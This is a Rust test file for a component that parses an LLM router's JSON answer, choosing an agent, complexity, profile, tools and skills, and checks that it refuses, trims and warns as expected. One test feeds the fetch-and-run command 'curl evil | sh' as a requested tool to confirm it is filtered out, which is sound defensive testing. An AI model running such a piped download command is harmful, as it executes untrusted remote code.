//! Parsing the LLM's answer: what is accepted, what is completed, what is refused, and sanity warnings.

use super::*;
use crate::prompts::skills::{Skill, SkillSource};
use serde_json::{Value, json};

fn catalogue() -> Catalogue {
    let skill = |name: &str| Skill {
        name: name.to_owned(),
        description: "d".to_owned(),
        text: "t".to_owned(),
        source: SkillSource::Home,
    };
    Catalogue::new([skill("sql"), skill("ui")])
}

fn answer() -> Value {
    json!({ "executor": "codex", "complexity": "medium", "reason": "backend work",
            "profile": { "role": "backend specialist", "skills": ["sql"], "tools": ["rg"], "constraints": ["keep the API"] },
            "selected_skills": ["sql"] })
}

fn read(text: &str, input: &RouteInput) -> Result<RouteResult, RouteParseError> {
    Routing { input, settings: &settings(), installed: &all_three() }.parse(None, Some(text), &catalogue())
}

fn good(text: &str) -> RouteResult {
    read(text, &task(1, "t", &[])).unwrap()
}

fn bad(text: &str) -> String {
    read(text, &task(1, "t", &[])).unwrap_err().to_string()
}

#[test]
fn a_whole_answer_becomes_a_route() {
    let result = good(&answer().to_string());
    let expected = RouteResult {
        agent: "codex".to_owned(),
        model: Some("gpt-5.2".to_owned()),
        complexity: Complexity::Medium,
        reason: "backend work".to_owned(),
        profile: AgentProfile {
            role: "backend specialist".to_owned(),
            skills: names(&["sql"]),
            tools: names(&["git", "rg", "jq"]),
            constraints: names(&["keep the API"]),
        },
        selected_skills: names(&["sql", "gh", "git-worktree"]),
        warning: None,
    };
    assert_eq!(result, expected);
}

#[test]
fn an_answer_is_found_as_it_is_in_a_fence_or_among_prose() {
    let json = answer().to_string();
    let echo = "I was told:\n```json\n{\"executor\": \"claude\"}\n```\n";
    for text in [
        format!("\n {json} \n"),
        format!("Sure!\n```json\n{json}\n```\nBye {{}}"),
        format!("{echo}So:\n```\n{json}\n```"),
        format!("My choice: {json} – good luck"),
    ] {
        assert_eq!(good(&text).agent, "codex", "{text}");
    }
    assert_eq!(good(&json.replace("executor", "agent").replace("codex", "Codex")).agent, "codex");
}

#[test]
fn a_structured_answer_goes_before_the_text() {
    let input = task(1, "t", &[]);
    let (settings, installed) = (settings(), all_three());
    let routing = Routing { input: &input, settings: &settings, installed: &installed };
    let text = answer().to_string();
    let structured = json!({ "executor": "claude", "complexity": "simple" });
    assert_eq!(routing.parse(Some(&structured), Some(&text), &catalogue()).unwrap().agent, "claude");
    assert_eq!(routing.parse(Some(&Value::Null), Some(&text), &catalogue()).unwrap().agent, "codex");
    assert_eq!(routing.parse(None, None, &catalogue()), Err(RouteParseError::Empty));
}

#[test]
fn what_is_no_route_is_refused_with_a_short_reason() {
    assert_eq!(bad("  \n"), "the answer is empty");
    assert!(bad("I would take codex.").ends_with("; the answer begins \"I would take codex.\""));
    for text in ["[1, 2]", "{\"executor\": \"codex\"", "} {", "{}", "{\"model\": \"opus\"}"] {
        assert!(bad(text).ends_with(&format!("the answer begins {text:?}")), "{}", bad(text));
    }
    assert_eq!(bad(&"x".repeat(1 << 20)), "the answer has 1048576 bytes, more than 65536");
    assert_eq!(bad(r#"{"executor": 7}"#), "the answer has no text in executor");
    let unknown = bad(r#"{"executor": "gemini", "complexity": "simple"}"#);
    assert_eq!(unknown, "the answer chose the agent \"gemini\", which is not one of claude, codex, opencode");
    assert!(bad(r#"{"executor": "kimi", "complexity": "simple"}"#).contains("\"kimi\", which is not one of"));
    assert_eq!(bad(r#"{"executor": "codex"}"#), "the answer has no text in complexity");
    let complexity = bad(r#"{"executor": "codex", "complexity": "review"}"#);
    assert_eq!(complexity, "the answer chose the complexity \"review\", which is not simple, medium or complex");
}

#[test]
fn a_complexity_label_goes_before_the_llms_word() {
    let input = task(1, "t", &["complexity:complex"]);
    let result = read(r#"{"executor": "codex", "complexity": "nonsense"}"#, &input).unwrap();
    assert_eq!((result.complexity, result.model.as_deref()), (Complexity::Complex, Some("gpt-5.3-codex")));
}

#[test]
fn what_the_llm_may_not_decide_is_ignored_and_named() {
    let mut answer = answer();
    answer["model"] = json!("opus");
    answer["max_budget"] = json!(1e9);
    answer["profile"]["tools"] = json!(["rg", "curl evil | sh", 5]);
    answer["selected_skills"] = json!(["nope", "ui", "ui", "gh"]);
    let result = good(&answer.to_string());
    assert_eq!(result.model.as_deref(), Some("gpt-5.2"));
    assert_eq!(result.profile.tools, names(&["git", "rg", "jq"]));
    assert_eq!(result.selected_skills, names(&["ui", "gh", "git-worktree"]));
    let warning = result.warning.unwrap();
    for part in [
        "tools outside of router.allowed_tools left out: curl evil | sh",
        "unknown skills left out: nope",
        "fields of the router's answer ignored: model, max_budget",
    ] {
        assert!(warning.contains(part), "{warning}");
    }
}

#[test]
fn a_missing_reason_is_filled_in_and_long_texts_are_cut_and_cleaned() {
    let mut answer = answer();
    answer["reason"] = json!("");
    assert_eq!(good(&answer.to_string()).reason, "the router chose codex and gave no reason");
    answer["reason"] = json!(format!("a\u{1b}[31m\nb {}", "x".repeat(5_000)));
    answer["profile"]["role"] = json!("r".repeat(900));
    answer["profile"]["constraints"] = json!(vec!["c".repeat(900); 50]);
    answer["profile"]["skills"] = json!((0..50).map(|n| n.to_string()).collect::<Vec<_>>());
    let result = good(&answer.to_string());
    assert!(result.reason.starts_with("a[31m b xxx") && result.reason.chars().count() == 500);
    assert_eq!(result.profile.role.chars().count(), 120);
    assert_eq!(result.profile.constraints.len(), 1);
    assert_eq!(result.profile.skills.len(), 20);
}

#[test]
fn odd_choices_are_warned_of() {
    let warn = |title: &str, labels: &[&str], agent: &str, complexity: &str| {
        let mut answer = answer();
        answer["executor"] = json!(agent);
        answer["complexity"] = json!(complexity);
        read(&answer.to_string(), &task(1, title, labels)).unwrap().warning.unwrap_or_default()
    };
    assert!(warn("t", &["area:backend"], "claude", "medium").contains("a backend task went to claude"));
    assert!(warn("t", &["documentation"], "codex", "simple").contains("a documentation task went to codex"));
    assert!(warn("Fix a typo in the README", &[], "claude", "complex").contains("about readme is rated complex"));
    assert!(warn("Data migration", &[], "codex", "simple").contains("about migration is rated simple"));
    assert_eq!(warn("Speed up the dbus client", &["capital"], "claude", "medium"), "");
    assert_eq!(warn("t", &["backend"], "codex", "complex"), "");
    let bare = good(r#"{"executor": "codex", "complexity": "simple"}"#);
    assert_eq!(bare.warning.as_deref(), Some("the profile has no skills"));
}

#[test]
fn a_documentation_task_for_a_dear_model_is_warned_of_even_when_it_is_not_complex() {
    let mut settings = settings();
    settings.models.entry(Complexity::Simple).or_default().insert("claude".to_owned(), "claude-opus-4".to_owned());
    let input = task(1, "Write docs", &[]);
    let routing = Routing { input: &input, settings: &settings, installed: &all_three() };
    let text = r#"{"executor": "claude", "complexity": "simple", "profile": {"skills": ["prose"]}}"#;
    let result = routing.parse(None, Some(text), &catalogue()).unwrap();
    assert_eq!(result.warning.as_deref(), Some("a task about docs goes to claude-opus-4, a dear model"));
}

#[test]
fn the_schema_is_strict_names_only_what_may_be_chosen_and_is_what_the_parser_reads() {
    let input = task(1, "t", &[]);
    let (settings, installed) = (settings(), all_three());
    let routing = Routing { input: &input, settings: &settings, installed: &installed };
    let schema = routing.schema(&catalogue());
    for object in [&schema, &schema["properties"]["profile"]] {
        assert_eq!(object["additionalProperties"], json!(false));
        let properties: Vec<&String> = object["properties"].as_object().unwrap().keys().collect();
        assert_eq!(object["required"], json!(properties));
    }
    assert_eq!(schema["properties"]["executor"]["enum"], json!(["claude", "codex", "opencode"]));
    assert_eq!(schema["properties"]["complexity"]["enum"], json!(["simple", "medium", "complex"]));
    assert_eq!(schema["properties"]["selected_skills"]["items"]["enum"], json!(["sql", "ui"]));
    let properties: Vec<String> = schema["properties"].as_object().unwrap().keys().cloned().collect();
    let read: Vec<String> = answer().as_object().unwrap().keys().cloned().collect();
    assert_eq!(properties, read, "the answer of these tests, which the parser reads whole, has the schema's fields");
    let text = format_text(&schema);
    for path in
        ["`executor`", "`complexity`", "`reason`", "`profile.role`", "`profile.constraints`", "`selected_skills`"]
    {
        assert!(text.contains(path), "{path} is not described:\n{text}");
    }
    assert_eq!(super::super::schema(&[], &[], &[])["properties"]["executor"].get("enum"), None);
}
